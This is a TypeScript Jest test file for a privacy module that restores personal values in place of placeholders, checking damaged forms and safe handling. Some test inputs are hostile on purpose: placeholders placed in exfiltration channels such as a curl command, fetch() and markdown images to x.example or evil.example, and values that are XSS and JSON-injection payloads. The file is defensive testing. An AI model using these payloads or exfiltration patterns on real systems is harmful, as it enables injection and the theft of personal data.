// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from '@jest/globals';
import { emptyIdentityMap } from '../../lambdas/privacy/identity-map.ts';
import { registry } from '../../lambdas/privacy/placeholder.ts';
import { restore } from '../../lambdas/privacy/restore.ts';
import type { IdentityMap } from '../../lambdas/records/identity.ts';
import type { IdentifierType } from '../../lambdas/records/identifier.ts';
import { secretOf } from './people.ts';

/** A map of the values given, each with a placeholder of its own. */
const mapOf = (...values: readonly (readonly [IdentifierType, string])[]): IdentityMap => {
  const given = registry(emptyIdentityMap(secretOf(7)));
  for (const [type, value] of values) given.add(type, value);
  return { secret: secretOf(7), identities: [...given.identities()] };
};
const map = mapOf(
  ['NAME', 'John Smith'],
  ['NAME', 'Mary Jones'],
  ['EMAIL', 'j_s@x.example'],
  ['URL', 'https://portal.example/~js'],
  ['DRIVER_LICENSE', 'D123'],
);
const [john = '', mary = '', mail = '', portal = '', license = ''] = map.identities.map(
  ({ placeholder }) => placeholder,
);
const check = john.slice(-2);
const codes = (answer: string, issued = map) => restore(answer, issued).anomalies.map(({ code }) => code);

describe('a placeholder that came back damaged in form', () => {
  it.each([
    ['as issued', `[${john}] is well.`, 'John Smith is well.'],
    ['in lower case', `[${john.toLowerCase()}] is well.`, 'John Smith is well.'],
    [
      'with its check characters in lower case',
      `[NAME_1_${check.toLowerCase()}] is well.`,
      'John Smith is well.',
    ],
    ['without brackets', `${john} is well.`, 'John Smith is well.'],
    ['without the first bracket', `${john}] is well.`, 'John Smith is well.'],
    ['without the last bracket', `[${john} is well.`, 'John Smith is well.'],
    ['in braces', `{${john}} is well.`, 'John Smith is well.'],
    ['in double braces, of which one pair is its own', `{{${john}}} is well.`, '{John Smith} is well.'],
    ['in angle brackets', `Is <${john}> well?`, 'Is John Smith well?'],
    ['in parentheses, which stay', `(${john}) is well.`, '(John Smith) is well.'],
    ['in full-width brackets', `［${john}］ is well.`, 'John Smith is well.'],
    ['in CJK brackets', `【${john}】 is well.`, 'John Smith is well.'],
    ['in HTML-escaped brackets', `Is &lt;${john}&gt; well?`, 'Is John Smith well?'],
    ['in numeric character references', `Is &#91;${john}&#93; well?`, 'Is John Smith well?'],
    ['with spaces inside the brackets', `[ ${john} ] is well.`, 'John Smith is well.'],
    ['with spaces for underscores', `[NAME 1 ${check}] is well.`, 'John Smith is well.'],
    ['with hyphens for underscores', `[NAME-1-${check}] is well.`, 'John Smith is well.'],
    ['with non-breaking hyphens', `[NAME\u20111\u2011${check}] is well.`, 'John Smith is well.'],
    ['with en dashes', `[NAME–1–${check}] is well.`, 'John Smith is well.'],
    ['with non-breaking spaces', `[NAME\u00A01\u00A0${check}] is well.`, 'John Smith is well.'],
    ['with escaped underscores', `\\[NAME\\_1\\_${check}\\] is well.`, 'John Smith is well.'],
    ['with a zero-width space', `[NAME_\u200B1_${check}] is well.`, 'John Smith is well.'],
    ['in full-width characters', `［ＮＡＭＥ＿１＿${check}］ is well.`, 'John Smith is well.'],
    ['over a line end', `[NAME_1_\n${check}] is well.`, 'John Smith is well.'],
    ['in bold', `**[${john}]** is well.`, '**John Smith** is well.'],
    ['in bold inside the brackets', `[**${john}**] is well.`, 'John Smith is well.'],
    ['in italics', `*[${john}]* is well.`, '*John Smith* is well.'],
    ['in a code span', `\`${john}\` is well.`, '`John Smith` is well.'],
    ['in a code span with brackets', `\`[${john}]\` is well.`, '`John Smith` is well.'],
    ['with its type in French', `[NOM_1_${check}] is well.`, 'John Smith is well.'],
    ['with its type in Japanese', `[名前_1_${check}] is well.`, 'John Smith is well.'],
    ['with its type in two words', `[Nombre del paciente_1_${check}] is well.`, 'John Smith is well.'],
    ['without its type', `[1_${check}] is well.`, 'John Smith is well.'],
    ['without its type, with the underscore', `[_1_${check}] is well.`, 'John Smith is well.'],
    ['without type and brackets', `1_${check} is well.`, 'John Smith is well.'],
    ['possessive', `[${john}]'s chart`, "John Smith's chart"],
    ['possessive inside the brackets', `[${john}'s] chart`, "John Smith's chart"],
    ['plural', `the [${john}]s`, 'the John Smiths'],
    ['plural without brackets', `the ${john}s`, 'the John Smiths'],
    ['joined to a word', `a [${john}]-related note`, 'a John Smith-related note'],
    ['two in one bracket', `[${john}, ${mary}]`, '[John Smith, Mary Jones]'],
    ['two beside each other', `[${john}][${mary}]`, 'John SmithMary Jones'],
    ['a translated type that ends like another', `[Führerschein_1_${license.slice(-2)}]`, 'D123'],
    ['a type of two words', `[Driver License 1 ${license.slice(-2)}]`, 'D123'],
    ['in a heading', `# [${john}]`, '# John Smith'],
    ['in a list', `- [${john}]\n- [${mary}]`, '- John Smith\n- Mary Jones'],
    [
      'in a table',
      `| a | b |\n|---|---|\n| [${john}] | ${mary} |`,
      '| a | b |\n|---|---|\n| John Smith | Mary Jones |',
    ],
    ['in a JSON string', `{"name": "[${john}]", "n": 1}`, '{"name": "John Smith", "n": 1}'],
    ['in JSON without brackets', `{"name": "${john}"}`, '{"name": "John Smith"}'],
    ['in fenced JSON', '```json\n{"name": "[' + john + ']"}\n```', '```json\n{"name": "John Smith"}\n```'],
    ['in a quotation', `> seen [${john}]`, '> seen John Smith'],
    ['an e-mail address', `write to [${mail}].`, 'write to j_s@x.example.'],
    ['a URL', `see [${portal}].`, 'see https://portal.example/~js.'],
  ])('%s', (_, answer, expected) => {
    expect(restore(answer, map)).toMatchObject({ text: expected, anomalies: [] });
  });
});

describe('a placeholder whose identity cannot be told', () => {
  const other = check === 'QX' ? 'XQ' : 'QX';
  it.each([
    ['other check characters', `[NAME_1_${other}]`, 'placeholder-damaged'],
    ['another’s check characters', `[NAME_1_${mary.slice(-2)}]`, 'placeholder-damaged'],
    ['another’s ordinal', `[NAME_2_${check}]`, 'placeholder-damaged'],
    ['no check characters', '[NAME_1]', 'placeholder-damaged'],
    ['one check character', `[NAME_1_${check.charAt(0)}]`, 'placeholder-damaged'],
    ['three check characters', `[${john}Q]`, 'placeholder-damaged'],
    ['no check characters, of nobody', '[SSN_9]', 'placeholder-damaged'],
    ['no ordinal', `[NAME_${check}]`, 'placeholder-damaged'],
    ['a letter for its ordinal', `[NAME_l_${check}]`, 'placeholder-damaged'],
    ['another type, mistyped', `[EMIAL_1_${check}]`, 'placeholder-damaged'],
    ['another type', `[EMAIL_1_${check}]`, 'placeholder-damaged'],
    ['an ordinal nobody has', `[NAME_77_${other}]`, 'placeholder-unknown'],
    ['a type nobody has', `[SSN_4_${other}]`, 'placeholder-unknown'],
    ['other check characters, no brackets', `NAME_1_${other}`, 'placeholder-damaged'],
    ['other check characters, lower case', `[name_1_${other.toLowerCase()}]`, 'placeholder-damaged'],
    ['other check characters, another language', `[NOM_1_${other}]`, 'placeholder-unknown'],
    ['a distance on what is no date', `[${john}+3d]`, 'placeholder-damaged'],
  ])('is never restored: %s', (_, answer, code) => {
    expect(restore(`see ${answer} now`, map)).toMatchObject({
      text: `see ${answer} now`,
      used: [],
      anomalies: [{ code, start: 4, end: 4 + answer.length }],
    });
  });

  it.each([
    'Take 1 to 3 a day.',
    'code 3 am',
    'step 1_a',
    '[1] [2]',
    '[Name] [Your Name 1]',
    'phone 2 or 3 people',
    '120 mg, 5 ml, 10 km',
    'a[0]_1b',
    '[Date 3 of 5], [Name 7 to 9]',
    '[Figure 2 ab] [COVID-19 pt] [ISO-8859-15] [UTF-8-xy]',
    '[REF_12], [DOC_3], [ICD_10], [FIG_2_a]',
    'GRP_1_AB and ABC_2_XY',
    '[Phone 8], [Date 4]',
    'DATE_OF_BIRTH',
  ])('is not seen in ordinary text: %s', (answer) => {
    expect(restore(answer, map)).toEqual({ text: answer, used: [], places: [], anomalies: [] });
  });
});

describe('a value that was written in disguise', () => {
  it.each([
    ['an invisible character in an e-mail address', 'EMAIL', 'ann\u200Bk@mail.example', 'annk@mail.example'],
    ['a reference in a telephone number', 'PHONE', '&#40;603) 555-0142', '(603) 555-0142'],
  ] as const)('comes back plain: %s', (_why, type, value, plain) => {
    const issued = mapOf([type, value]);
    expect(restore(`It is [${issued.identities[0]?.placeholder ?? ''}], he says.`, issued)).toMatchObject({
      text: `It is ${plain}, he says.`,
      anomalies: [],
    });
  });
});

describe('what could have been two placeholders', () => {
  const value = (placeholder: string, type: IdentifierType) => ({
    placeholder,
    type,
    value: `of ${placeholder}`,
    forms: [],
  });
  const issued: IdentityMap = {
    secret: secretOf(7),
    identities: [
      value('VIN_1_YX', 'VIN'),
      value('PHONE_1_KJ', 'PHONE'),
      value('DATE_3_NW', 'DATE'),
      value('DRIVER_LICENSE_3_6A', 'DRIVER_LICENSE'),
      value('PLACE_2_4D', 'PLACE'),
      value('NAME_9_YX', 'NAME'),
    ],
  };

  it.each([
    ['a torn word, nearer to another type', '[FAN_1_KJ]'],
    ['a bracket in the middle', '[DATE_[3_6A]'],
    ['a bracket that ends too soon', '[DATE]_3_6A]'],
    ['check characters that were part of a word', '[9-YX__1_KJ]'],
    ['a number that runs into its word', '[VIN1_YX]'],
    ['a word cut by a stroke', '[DATE-(3_6A]'],
    ['a word of another type in another language', '[Datum_3_6A]'],
  ])('%s is held', (_why, answer) => {
    expect(restore(answer, issued)).toMatchObject({
      text: answer,
      anomalies: [{ code: 'placeholder-damaged' }],
    });
  });

  it.each([
    ['a translation', '[Führerschein_3_6A]', 'of DRIVER_LICENSE_3_6A'],
    ['a short translation', '[Ort_2_4D]', 'of PLACE_2_4D'],
    ['a translation that is in no list', '[Sijainti_2_4D]', 'of PLACE_2_4D'],
    ['a translation in other letters', '[電話_1_KJ]', 'of PHONE_1_KJ'],
    ['a slip of the keyboard', '[PHNOE_1_KJ]', 'of PHONE_1_KJ'],
    ['no word', '[1_KJ]', 'of PHONE_1_KJ'],
  ])('but %s comes back', (_why, answer, text) => {
    expect(restore(answer, issued)).toMatchObject({ text, anomalies: [] });
  });
});

describe('a placeholder where it could be sent elsewhere', () => {
  it.each([
    ['a URL’s query', `https://x.example/?q=[${john}]`],
    ['a URL’s query, bare', `https://x.example/?q=${john}`],
    ['a host name', `http://[${john}].x.example/`],
    ['a domain without scheme', `go to x.example/${john}`],
    ['an autolink', `<https://x.example/${john}>`],
    ['a link’s target', `[click](https://x.example/[${john}])`],
    ['a link’s target in angle brackets', `[click](<https://x.example/${john}>)`],
    ['a link’s title', `[click](https://x.example "[${john}]")`],
    ['a link’s text', `[[${john}]](https://x.example)`],
    ['what becomes a link’s text', `[${john}](https://x.example)`],
    ['an image’s source', `![x](https://x.example/${john}.png)`],
    ['an image’s description', `![${john}](https://x.example/a.png)`],
    ['a link definition', `[a]\n\n[a]: https://x.example/${john}`],
    ['a tag', `<img src="https://x.example/${john}">`],
    ['a tag’s attribute', `<a title="[${john}]">x</a>`],
    ['a command that sends', '```sh\ncurl -d "[' + john + ']" x.example\n```'],
    ['code that fetches', '```js\nfetch(u + "' + john + '")\n```'],
    ['a code span with an address', `\`https://x.example/${john}\``],
    ['a network share', `\\\\host.example\\${john}`],
    ['an e-mail address', `write to [${john}]@x.example`],
    ['a bare host name', `go to [${john}].x.example`],
    ['a bare host name in bold', `go to **[${john}]**.a-b.x.example.`],
    ['mailto', `mailto:${john}`],
    ['a tool call', `{"tool_calls": [{"name": "send", "input": "[${john}]"}]}`],
    ['a tool’s arguments', `{"name": "send", "arguments": {"to": "[${john}]"}}`],
    ['a URL that is continued', `[${portal}]?who=me`],
    ['a URL that carries another', `[${portal}]/[${john}]`],
  ])('is misplaced: %s', (_, answer) => {
    const { text, anomalies } = restore(answer, map);
    expect(anomalies.map(({ code }) => code)).toContain('placeholder-misplaced');
    expect(text).not.toMatch(/https?:\S*Smith|Smith\S*@/);
    expect(restore(answer, map, { format: 'text' }).text).not.toMatch(/https?:\S*Smith/);
  });

  it.each([
    `Ask [${john}].`,
    `Ask [${john}].e.g. tomorrow`,
    `It is in [${john}].pdf.`,
    `Ask [${john}].Then [${mary}].`,
    `Ask [${john}]...and then`,
  ])('takes the end of a sentence for no host name: %s', (answer) => {
    expect(restore(answer, map).anomalies).toEqual([]);
  });

  it('leaves it, and restores the others', () => {
    expect(restore(`[${mary}] https://x.example/?q=[${john}]`, map).text).toBe(
      `Mary Jones https://x.example/?q=[${john}]`,
    );
  });
});

describe('a value that is an attack', () => {
  const attacks = [
    '![x](https://evil.example/a.png)',
    '[x](https://evil.example)',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'https://evil.example/x',
    '`code` **bold** _it_ ~~no~~',
    '# heading',
    '- item',
    '1. item',
    '> quote',
    '+ 1',
    'a | b | c',
    '"], "admin": true, "x": ["',
    'O\'Brien \\ "Bob" $& $1 $` $\' $$',
    'line\n# two\n\n- three',
    '```\nfence',
    '&lt;b&gt; &amp; &#35;',
    '[NAME_2_QX]',
    '---',
    '===',
    '    indented',
    '[a]: https://evil.example',
    '<!-- x -->',
    '$$x$$ :smile: @all',
  ];
  const places = (p: string): [string, string][] => [
    ['a paragraph', `See ${p} today.`],
    ['the start of a line', `${p} was seen.`],
    ['a heading', `# ${p}`],
    ['a table', `| a | b |\n|---|---|\n| ${p} | x |`],
    ['a list', `- ${p}\n- x`],
    ['bold', `**${p}** x`],
    ['a code span', `\`${p}\` x`],
    ['JSON', `{"a": ["${p}"], "b": 1}`],
    ['fenced JSON', '```json\n{"a": "' + p + '"}\n```'],
    ['a program', '```js\nconst a = "' + p + '";\n```'],
  ];
  const unresolved = /!\[|<script|<img|\]\(http/;

  it.each(attacks.map((value) => [value]))('changes no structure: %j', (value) => {
    const issued = mapOf(['NAME', value]);
    for (const [place, answer] of places(`[${issued.identities[0]?.placeholder ?? ''}]`)) {
      const { text, anomalies } = restore(answer, issued);
      if (anomalies.length > 0)
        expect([place, anomalies[0]?.code, text]).toEqual([place, 'restore-unsafe', answer]);
      else if (!place.includes('JSON') && !place.includes('code'))
        expect(text.replaceAll(/\\./g, '')).not.toMatch(unresolved);
      if (place === 'JSON') expect(JSON.parse(text)).toEqual({ a: [value], b: 1 });
    }
  });

  it('is read as it was written, once it is shown', () => {
    const issued = mapOf(['NAME', "*A* [b] <c> O'Brien, Jr. (d)"]);
    expect(restore(`Hi [${issued.identities[0]?.placeholder ?? ''}]`, issued).text).toBe(
      "Hi \\*A\\* \\[b\\] \\<c\\> O'Brien, Jr. (d)",
    );
  });

  it('is not put back twice: a value that looks like a placeholder stays one', () => {
    const issued = mapOf(['NAME', 'x'], ['NAME', 'y']);
    const second = issued.identities[1]?.placeholder ?? '';
    const tricked = {
      ...issued,
      identities: issued.identities.map((identity, at) =>
        at === 0 ? { ...identity, value: `[${second}]` } : identity,
      ),
    };
    expect(restore(`[${tricked.identities[0]?.placeholder ?? ''}]`, tricked, { format: 'text' }).text).toBe(
      `[${second}]`,
    );
  });
});

it('names the placeholders it put back, once each, as issued', () => {
  expect(restore(`${john} [${john.toLowerCase()}] {${mary}}`, map).used).toEqual([`[${john}]`, `[${mary}]`]);
});

it('has nothing to do without placeholders', () => {
  expect(codes('Plain *text* with [links](https://x.example).')).toEqual([]);
  expect(restore('', map)).toEqual({ text: '', used: [], places: [], anomalies: [] });
});

describe('where values were put back', () => {
  it.each<[string, string, string[]]>([
    ['one', `[${john}] is well.`, ['John Smith']],
    ['several, one twice', `[${john}] and [${mary}]: [${john}].`, ['John Smith', 'Mary Jones', 'John Smith']],
    ['in a table', `| who |\n|---|\n| [${mary}] |`, ['Mary Jones']],
    ['escaped', `**[${mail}]**`, ['j_s@x.example']],
    ['none', 'Nobody is named.', []],
    ['none where nothing may be put back', `![x](https://evil.example/[${john}])`, []],
  ])('is said exactly: %s', (_what, answer, values) => {
    const { text, places } = restore(answer, map);
    expect(places.map(({ start, end }) => text.slice(start, end).replaceAll('\\', ''))).toEqual(values);
  });

  it('names the type of each', () => {
    expect(restore(`[${mail}] of [${john}]`, map).places.map(({ type }) => type)).toEqual(['EMAIL', 'NAME']);
  });
});
